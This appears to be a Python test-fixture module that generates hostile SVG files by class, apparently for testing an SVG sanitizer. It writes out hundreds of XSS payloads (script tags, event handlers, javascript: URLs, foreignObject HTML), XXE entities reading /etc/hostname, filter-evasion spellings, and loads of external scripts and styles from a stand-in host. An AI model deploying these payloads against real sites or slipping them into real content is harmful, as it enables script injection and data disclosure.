"""
Hostile drawings, made by class: what could run in a browser or load something, wherever SVG has room for it.

`RUN()` stands for a piece of JavaScript that reports that it has run, `away.example` for another host. Both are written
where a payload is tried, because only there it is known who listens.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

RUN, HOST = "RUN()", "away.example"
AWAY = f"http://{HOST}"
NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
SHAPE = '<rect width="90" height="90" fill="teal"/>'
# A picture that is none, for those events that tell so.
BROKEN = "data:image/png;base64,AAAA"

# Events that come by themselves, that a click brings, and that a reader's hand or an animation brings.
EVENT_NAMES = (
    "load error begin end repeat unload abort resize scroll zoom activate click mousedown mouseup mousemove mouseover "
    "mouseout mouseenter focus focusin focusout blur keydown keyup input change submit wheel copy paste drag drop "
    "pointerdown pointerover pointerenter touchstart animationstart animationend transitionend transitionrun toggle "
    "beforetoggle message hashchange popstate pageshow beforeunload storage securitypolicyviolation"
)
EVENTS = tuple(EVENT_NAMES.split())
CARRIERS = ("svg", "g", "rect", "text", "a", "image", "use", "set", "animate", "style", "foreignObject", "title")


def payloads() -> dict[str, str]:
    """All of them: a name, which says its class and number, and the drawing."""
    found: dict[str, str] = {}
    for kind, make in CLASSES.items():
        for number, drawing in enumerate(make()):
            found[f"{kind}-{number:03}"] = drawing
    return found


def svg(content: str, more: str = "", head: str = "") -> str:
    """A drawing with this content."""
    return f'{head}<svg {NAMES} width="100" height="100" viewBox="0 0 100 100"{more}>{content}</svg>'


def scripts() -> Iterator[str]:
    """Elements that hold a program, in the spellings that an XML reader knows."""
    for content in (RUN, f"<![CDATA[{RUN}]]>", f"<!-- -->{RUN}", f"/*<![CDATA[*/{RUN}/*]]>*/", escape(RUN)):
        for given in ("", ' type="text/javascript"', ' type="text/ecmascript"', ' type="module"', ' language="x"'):
            yield svg(f"<script{given}>{content}</script>{SHAPE}")
    for content in (RUN, f"<![CDATA[{RUN}]]>"):
        yield svg(f"<script {XHTML}>{content}</script>{SHAPE}")
        yield svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{content}</h:script>{SHAPE}')
        yield svg(f'<s:script xmlns:s="http://www.w3.org/2000/svg">{content}</s:script>{SHAPE}')
        yield f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{content}</s:script></s:svg>'
        for around in ("defs", "g", "symbol", "title", "desc", "metadata", "text", "a", "style", "switch", "clipPath"):
            yield svg(f"<{around}><script>{content}</script></{around}>{SHAPE}")
    for attribute in ("href", "xlink:href", "src"):
        yield svg(f'<script {attribute}="data:text/javascript,{quote(RUN)}"/>{SHAPE}')
        yield svg(f'<script {attribute}="{AWAY}/script.js"/>{SHAPE}')
        yield svg(f'<script {attribute}="//away.example/script.js"/>{SHAPE}')
    yield svg(
        f'<handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>'
    )
    yield svg(f"<script>{''.join(f'&#{ord(c)};' for c in RUN)}</script>{SHAPE}")
    yield svg(f"<SCRIPT>{RUN}</SCRIPT><Script>{RUN}</Script>{SHAPE}")
    yield svg(f'<script xmlns="">{RUN}</script><script xmlns="urn:x">{RUN}</script>{SHAPE}')


def handlers() -> Iterator[str]:
    """Attributes that hold a program."""
    for event in EVENTS:
        for carrier in CARRIERS:
            if event in ("load", "error", "begin", "end", "click", "focus", "mouseover") or carrier in ("svg", "rect"):
                if carrier == "svg":
                    yield svg(SHAPE, f' on{event}="{RUN}"')
                else:
                    yield svg(f'<{carrier} on{event}="{RUN}">{SHAPE}</{carrier}>')
    for event in ("begin", "end", "repeat"):
        for animation in ("animate", "set", "animateTransform", "animateMotion"):
            timing = 'attributeName="x" begin="0s" dur="0.05s" repeatCount="2" to="5"'
            yield svg(f'<rect width="9" height="9"><{animation} {timing} on{event}="{RUN}"/></rect>')
    for address in (BROKEN, f"{AWAY}/x.png", "x:x", ""):
        for attribute in ("href", "xlink:href"):
            yield svg(f'<image width="9" height="9" {attribute}="{address}" onerror="{RUN}" onload="{RUN}"/>')
    for spelling in ("onLoad", "ONLOAD", "on\u017fload", "\u043enload", "xlink:onload", "data-onload", "aria-onload"):
        yield svg(SHAPE, f' {spelling}="{RUN}"')
    yield svg(f'<animate attributeName="x" onbegin="{RUN}" begin="0s"/>')
    yield svg(f'<rect tabindex="0" autofocus="autofocus" onfocus="{RUN}" width="9" height="9"/>')
    yield svg(f'<a href="#x" autofocus="" id="x" onfocusin="{RUN}"><text y="20">x</text></a>')


def addresses() -> Iterator[str]:
    """Links that run something when they are followed."""
    program = f"javascript:{RUN}"
    spelled = (
        program, program.upper().replace("RUN()", RUN), f" {program}", f"\t{program}", f"\x0c{program}".replace("\x0c", "&#9;"),
        program.replace("script", "scr&#10;ipt"), program.replace("script", "scr&#9;ipt"), f"&#1;{program}",
        program.replace(":", "&#58;"), program.replace("j", "&#x6a;"), f"javascript://x%0a{RUN}",
        f"data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;", f"data:image/svg+xml,{quote(svg(f'<script>{RUN}</script>'))}",
        "data:text/html;base64,PHNjcmlwdD5SVU4oKTwvc2NyaXB0Pg==", f"vbscript:{RUN}", f"livescript:{RUN}",
        f"view-source:{program}", f"feed:{program}", f"blob:{AWAY}/1", f"filesystem:{AWAY}/1", "file:///etc/hostname",
        f"java&#0;script:{RUN}".replace("&#0;", "&#173;"), f"&#160;{program}", f"\u200b{program}", f"jar:{AWAY}!/x",
    )  # fmt: skip
    for address in spelled:
        for attribute in ("href", "xlink:href"):
            yield svg(f'<a {attribute}="{address}"><text y="20">{SHAPE}x</text></a>')
    for attribute in ("href", "xlink:href"):
        yield svg(f'<a xml:base="{program}" {attribute}="#x"><text y="20">x</text></a>')
        yield svg(f'<a {attribute}="?" target="_top"><text y="20">x</text></a>')
        yield svg(f'<g {attribute}="{program}">{SHAPE}</g><use {attribute}="{program}"/>')
    yield svg(f'<h:a xmlns:h="http://www.w3.org/1999/xhtml" href="{program}">x</h:a>')
    yield svg(f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="{program}"><mi href="{program}">x</mi></math>')


def animated() -> Iterator[str]:
    """Attributes that an animation writes when the drawing is read already."""
    program = f"javascript:{RUN}"
    for animation in ("animate", "set"):
        for name in ("href", "xlink:href", "HREF", " href ", "style", "class", "onclick", "onload", "id", "target"):
            for given in (f'to="{program}"', f'values="{program};{program}"', f'from="{program}" to="{program}"'):
                rule = f'<{animation} attributeName="{name}" {given} begin="0s" dur="9s" fill="freeze"/>'
                yield svg(f'<a href="#"><text y="20">x</text>{rule}</a>')
        yield svg(
            f'<{animation} href="#l" attributeName="href" to="{program}" begin="0s"/><a id="l" href="#"><text y="9">x</text></a>'
        )
        yield svg(
            f'<image id="i" width="9" height="9"/><{animation} xlink:href="#i" attributeName="href" to="{AWAY}/i.png"/>'
        )
        yield svg(
            f'<a id="l"><text y="9">x</text></a><{animation} xlink:href="#l" attributeName="xlink:href" attributeType="XML" to="{program}"/>'
        )


def foreign() -> Iterator[str]:
    """HTML and other languages inside a drawing."""
    program = f"javascript:{RUN}"
    inside = (
        f"<script>{RUN}</script>", f'<img src="x" onerror="{RUN}"/>', f'<iframe src="{program}"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;{RUN.replace("RUN", "parent.RUN")}&lt;/script&gt;"></iframe>', f'<body onload="{RUN}"/>',
        f'<object data="{program}"></object>', f'<embed src="{program}"/>', f'<a href="{program}">x</a>',
        f'<form action="{program}"><button>x</button></form>', f'<input autofocus="" onfocus="{RUN}"/>',
        f'<details open="" ontoggle="{RUN}"><summary>x</summary></details>', f'<video src="x" onerror="{RUN}"></video>',
        f'<audio src="{AWAY}/a.mp3" onerror="{RUN}"></audio>', f'<link rel="stylesheet" href="{AWAY}/s.css"/>',
        f'<meta http-equiv="refresh" content="0;url={program}"/>', f'<base href="{AWAY}/"/>',
        f'<style>@import "{AWAY}/s.css";</style>', f'<img src="{AWAY}/i.png"/>', f'<img srcset="{AWAY}/i.png 1x" src=""/>',
        f'<button formaction="{program}" onclick="{RUN}">x</button>', f'<marquee onstart="{RUN}">x</marquee>',
        f'<template><script>{RUN}</script></template>', f'<noscript><p title="&lt;/noscript&gt;{escape(RUN)}"/></noscript>',
        f'<select autofocus="" onfocus="{RUN}"></select>', f'<portal src="{AWAY}"/>', f'<frame src="{program}"/>',
    )  # fmt: skip
    for content in inside:
        yield svg(f'<foreignObject width="90" height="90"><div {XHTML}>{content}</div></foreignObject>')
        yield svg(f"<g {XHTML}>{content}</g>".replace("<g ", "<div ").replace("</g>", "</div>"))
        yield svg(f"<switch><foreignObject><body {XHTML}>{content}</body></foreignObject>{SHAPE}</switch>")
        yield svg(f"<desc><div {XHTML}>{content}</div></desc><title><div {XHTML}>{content}</div></title>")
    math = 'xmlns="http://www.w3.org/1998/Math/MathML"'
    yield svg(
        f'<math {math}><annotation-xml encoding="text/html"><script {XHTML}>{RUN}</script></annotation-xml></math>'
    )
    yield svg(f'<math {math}><maction actiontype="statusline" xlink:href="{program}">x</maction></math>')


def references() -> Iterator[str]:
    """What makes a browser fetch something from elsewhere, or a program that stands elsewhere."""
    inner = quote(svg(f'<script>{RUN}</script><g id="x" onload="{RUN}"/>'))
    for address in (
        f"{AWAY}/x.svg#x",
        "//away.example/x.svg#x",
        f"data:image/svg+xml,{inner}#x",
        "https:away.example/x.svg",
    ):
        for element in (
            "use",
            "image",
            "feImage",
            "pattern",
            "linearGradient",
            "mpath",
            "textPath",
            "tref",
            "cursor",
            "animate",
        ):
            for attribute in ("href", "xlink:href"):
                wrapped = f'<{element} {attribute}="{address}" width="9" height="9"/>'
                if element == "feImage":
                    wrapped = f'<filter id="f">{wrapped}</filter><rect filter="url(#f)" width="9" height="9"/>'
                yield svg(f"{wrapped}{SHAPE}")
        for name in ("fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker", "cursor"):
            yield svg(f'<path {name}="url({address})" d="M0 0h9v9z"/>')
    yield svg(f'<audio src="{AWAY}/a.mp3"/><video src="{AWAY}/v.mp4"/><iframe src="{AWAY}/"/>{SHAPE}')
    yield svg(f'<font-face><font-face-src><font-face-uri xlink:href="{AWAY}/f.svg"/></font-face-src></font-face>')
    yield svg(f'<color-profile xlink:href="{AWAY}/p.icc" name="p"/>{SHAPE}')
    yield svg(f'<discard href="#x" begin="0s"/><solidcolor href="{AWAY}/x"/>{SHAPE}')


def styles() -> Iterator[str]:
    """Style sheets that load or run something."""
    rules = (
        f'@import "{AWAY}/s.css";', f"@import url({AWAY}/s.css);", '@import "//away.example/s.css" screen;',
        f"@\\69mport url({AWAY}/s.css);", f"@/**/import url({AWAY}/s.css);", f"rect{{fill:url({AWAY}/x.svg#x)}}",
        f"rect{{fill:\\75rl({AWAY}/x.svg)}}", f"rect{{background:image-set('{AWAY}/x.png' 1x)}}",
        f"rect{{cursor:url({AWAY}/c.cur),auto}}", f'@font-face{{font-family:x;src:url({AWAY}/f.woff)}}text{{font-family:x}}',
        f"rect{{background:-webkit-image-set(url({AWAY}/x.png) 1x)}}", f"@namespace x url({AWAY}/);",
        f"rect{{behavior:url({AWAY}/x.htc);-moz-binding:url({AWAY}/x.xml#x)}}", f"rect{{width:expression({RUN})}}",
        f"@media screen{{rect{{mask:url({AWAY}/x.svg#x)}}}}", f'@supports(fill:red){{@import "{AWAY}/s.css";}}',
        f"svg{{list-style:url('{AWAY}/x.png');background:url(\"{AWAY}/y.png\")}}", f"rect{{--x:url({AWAY}/x.png);background:var(--x)}}",
        f"svg::before{{content:url({AWAY}/x.png)}}", f"svg{{border-image:url({AWAY}/x.png)}}", f"rect{{filter:url({AWAY}/x.svg#f)}}",
        f"@document url({AWAY}/){{rect{{fill:red}}}}", f"rect{{fill:src('{AWAY}/x.svg')}}", f"rect{{shape-outside:url({AWAY}/x.png)}}",
        f"svg{{background:cross-fade(url({AWAY}/x.png),url({AWAY}/y.png),50%)}}", f"rect{{offset-path:url({AWAY}/x.svg#p)}}",
    )  # fmt: skip
    for rule in rules:
        yield svg(f"<style>{escape(rule, quote=False)}</style>{SHAPE}<text>x</text>")
        yield svg(f"<style><![CDATA[{rule}]]></style>{SHAPE}<text>x</text>")
        yield svg(f"<style {XHTML}>{escape(rule, quote=False)}</style>{SHAPE}<text>x</text>")
        if "{" in rule and "@" not in rule:
            body = rule.partition("{")[2].rstrip("}")
            yield svg(f'<rect width="9" height="9" style="{escape(body)}"/>')
    yield svg(f"<style>/*</style><script>{RUN}</script><style>*/</style>{SHAPE}")
    yield svg(f'<link {XHTML} rel="stylesheet" href="{AWAY}/s.css"/>{SHAPE}')


def documents() -> Iterator[str]:
    """Orders and declarations around the drawing."""
    yield svg(SHAPE, head=f'<?xml-stylesheet href="{AWAY}/s.css" type="text/css"?>')
    sheet = quote(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"<html {XHTML}><script>{RUN}</script></html></xsl:template></xsl:stylesheet>"
    )
    yield svg(SHAPE, head=f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{sheet}"?>')
    yield svg("&x;", head=f'<!DOCTYPE svg [<!ENTITY x "&lt;script>{RUN}&lt;/script>">]>')
    yield svg(f"{SHAPE}<text>&x;</text>", head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>')
    yield svg(SHAPE, head=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>')
    yield svg(SHAPE, head=f'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "{RUN}">]>')
    yield svg(SHAPE, head=f'<!DOCTYPE svg SYSTEM "{AWAY}/svg.dtd">')
    yield svg(SHAPE, head=f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{AWAY}/x.dtd"> %x;]>')
    yield svg(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{AWAY}/x.xml"/>{SHAPE}')
    yield svg(SHAPE, head='<?xml version="1.0" encoding="utf-7"?>') + f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield svg(f"{SHAPE}<!-- --!><script>{RUN}</script> -->")
    yield svg(f"{SHAPE}<![CDATA[</svg><script>{RUN}</script>]]>")
    yield svg(f"<title>&lt;/title>&lt;script>{RUN}&lt;/script></title>{SHAPE}")
    yield svg(f"<title></svg><script>{RUN}</script></title>{SHAPE}")
    yield f"<html {XHTML}><body><script>{RUN}</script>{svg(SHAPE)}</body></html>"
    yield f"<svg><script>{RUN}</script></svg><svg {NAMES}><script>{RUN}</script></svg>"
    yield f"\ufeff<!-- --><svg {NAMES}><script>{RUN}</script></svg>"
    yield f"<svg {NAMES} onload='{RUN}'/>"
    yield f"<svg {NAMES} id='\"><script>{RUN}</script>'>{SHAPE}</svg>"
    yield svg(f"<text>{escape(f'<img src=x onerror={RUN}>')}</text><desc>{escape(f'<script>{RUN}</script>')}</desc>")


def trusted() -> Iterator[str]:
    """Names that a page's own scripts look for."""
    for name in (
        "data-excerpts",
        "data-messages",
        "data-words",
        "data-m",
        "data-s",
        "data-moved",
        "data-settled",
        "data-open",
    ):
        for kind in ("take-away", "section", "listing", "mending", "symbols", "katex", "annotated", "md-search"):
            yield svg(f'<g class="{kind}" {name}="{AWAY}/x.js">{SHAPE}</g>')
    for name in (
        "documentElement",
        "body",
        "forms",
        "cookie",
        "currentScript",
        "location",
        "getElementById",
        "__md_scope",
    ):
        yield svg(f'<g id="{name}">{SHAPE}</g><a id="{name}" href="{AWAY}/"><text y="9">x</text></a>')


CLASSES = {
    "script": scripts,
    "handler": handlers,
    "address": addresses,
    "animated": animated,
    "foreign": foreign,
    "reference": references,
    "style": styles,
    "document": documents,
    "trusted": trusted,
}
